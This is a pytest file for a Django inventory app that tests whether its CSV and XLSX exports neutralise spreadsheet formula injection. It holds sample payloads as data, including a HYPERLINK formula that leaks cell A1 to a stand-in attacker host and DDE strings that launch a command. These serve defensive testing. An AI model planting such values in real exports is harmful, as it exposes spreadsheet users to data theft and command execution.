"""Tables that leave the house carry no formulas, whatever names were typed in.

Source: OWASP, *CSV Injection*; ASVS 5.0, 1.2.10. Spreadsheets take =, +, -, @, a tab or a
carriage return at the start of a cell for a formula, or skip it and look at what follows.
"""

import csv
from collections.abc import Callable
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from fraginv.base.actions.uploads import record_load
from fraginv.base.queries.organisation import today
from fraginv.base.rules.loads import Given, LoadResult
from fraginv.base.rules.roles import Role
from fraginv.costs.actions import add_bill
from fraginv.costs.models import CostKind
from fraginv.costs.rules import BillItem
from fraginv.stock.models import Variety
from tests.conftest import People
from tests.factories import make_frag
from tests.front.rows import one_of_each, url_names

ClientFor = Callable[[Role | None], Client]
PLANTED = (
    '=HYPERLINK("http://reef.evil.test/?"&A1,"Salt")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
TABLES = {
    "front:colonies_csv",
    "front:colonies_xlsx",
    "front:cuttings_csv",
    "front:cuttings_xlsx",
    "front:frags_csv",
    "front:frags_xlsx",
    "front:load_blank",
    "front:load_codes",
    "front:stop_buyers_csv",
    "reports:losses_csv",
    "reports:losses_xlsx",
    "reports:survival_csv",
    "stock:water_csv",
    "reports:month_csv",
    "reports:month_xlsx",
}


@pytest.fixture
def planted(people: People, frozen: None) -> str:
    """Plant the names as kinds of costs, past all that looks at them; return their month."""
    names = [f"Kind {number}" for number in range(len(PLANTED))]
    items = [BillItem(name, 100 + number) for number, name in enumerate(names)]
    add_bill(items, day=today(), by=people[Role.MANAGER])
    for name, bad in zip(names, PLANTED, strict=True):
        assert CostKind.objects.filter(name=name).update(name=bad) == 1
    return today().strftime("%Y-%m")


def judge_csv(data: bytes) -> None:
    """Read the bytes as a spreadsheet would: every planted name is there, none as a formula."""
    cells = [cell for row in csv.reader(StringIO(data.decode(), newline="")) for cell in row]
    for bad in PLANTED:
        assert f"'{bad}" in cells, bad
    for cell in cells:
        assert not cell.startswith(STARTS) or is_number(cell), cell


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.isprintable()


def judge_xlsx(data: bytes) -> None:
    """Read the workbook back: every planted name is there as text, and no cell is a formula."""
    book = load_workbook(BytesIO(data), data_only=False)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    texts = {str(cell.value).strip().lstrip("'") for cell in cells if cell.data_type == "s"}
    assert {bad.strip() for bad in PLANTED} <= texts
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert not [cell for cell in cells if cell.hyperlink]


def test_tables_from_pages(client_for: ClientFor, planted: str) -> None:
    client = client_for(Role.OWNER)
    judge_csv(client.get(f"/reports/{planted}.csv").content)
    judge_xlsx(client.get(f"/reports/{planted}.xlsx").content)


def test_tables_from_the_command_line(planted: str, tmp_path: Path) -> None:
    for kind, judge in (("csv", judge_csv), ("xlsx", judge_xlsx)):
        file = tmp_path / f"month.{kind}"
        call_command("month", planted, f"--out={file}", stdout=StringIO())
        judge(file.read_bytes())


def test_codes_of_what_a_table_brought(client_for: ClientFor, people: People) -> None:
    given = [Given(line, "7K3Q9FN", bad) for line, bad in enumerate(PLANTED, start=2)]
    result = LoadResult(len(given), [], given)
    load = record_load(result, kind="frags", mark="1", name="a.csv", by=people[Role.MANAGER])
    judge_csv(client_for(Role.OWNER).get(f"/load/done/{load.pk}/codes.csv").content)


@pytest.mark.parametrize("page", ["frags", "colonies", "cuttings"])
def test_lists_that_are_taken_out(client_for: ClientFor, people: People, page: str) -> None:
    for bad in PLANTED:
        frag = make_frag(people[Role.GROWER])
        Variety.objects.filter(pk=frag.variety_id).update(name=bad)
    client = client_for(Role.READER)
    judge_csv(client.get(f"/{page}.csv").getvalue())
    judge_xlsx(client.get(f"/{page}.xlsx").getvalue())


def test_no_other_page_hands_out_a_table(client_for: ClientFor, people: People) -> None:
    arguments, client = one_of_each(people, by=people[Role.MANAGER]), client_for(Role.OWNER)
    found = set()
    for page in url_names():
        kind = client.get(reverse(page, kwargs=arguments(page)))["Content-Type"]
        if "csv" in kind or "spreadsheet" in kind or "excel" in kind:
            found.add(page)
    assert found == TABLES
